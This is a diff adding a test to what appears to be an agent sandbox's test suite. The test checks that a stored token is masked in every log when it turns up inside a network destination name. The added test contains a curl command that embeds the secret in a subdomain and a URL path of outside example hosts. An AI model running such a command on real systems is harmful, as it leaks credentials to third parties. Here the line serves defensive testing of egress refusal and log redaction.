@@ -177,6 +177,21 @@ test("the plan's and the agent's domains are kept to, and a change counts from t
     assert.match(await bash("curl -s -m 5 http://pkg.code.example/ || echo none $?"), /^none/)
   }))
 
+test("a secret that is part of a name is masked in every log", () =>
+  withAgent("pro", async ({ server, configure, bash }) => {
+    const value = "a-token-0123456789"
+    await configure({ network: "egress" })
+    await server.call("PUT", "/users/ada/secrets", { secrets: { TOKEN: value } })
+    await bash("curl -s http://$TOKEN.banned.example/ http://code.example/$TOKEN -o /dev/null -o /dev/null")
+    const line = /"message":"egress".*"destination":"\[secret TOKEN\]\.banned\.example:80"/
+    await until(() => line.test(server.output().stderr), "the refusal is logged")
+    await until(() => /"destination":"code\.example:80".*"connections":1/.test(server.output().stderr), "the other too")
+    const kept = await Promise.all(["/users/ada/logs", "/logs"].map((path) => server.call("GET", path)))
+    const all = JSON.stringify(kept.map(({ body }) => body)) + server.output().stderr
+    assert.match(all, /network: \[secret TOKEN\]\.banned\.example:80: refused/)
+    assert.ok(!all.includes(value))
+  }))
+
 test("a plan without a network refuses the setting, and moving to it takes the network away", () =>
   withAgent("pro", async ({ server, configure, bash }) => {
     await configure({ network: "egress" })
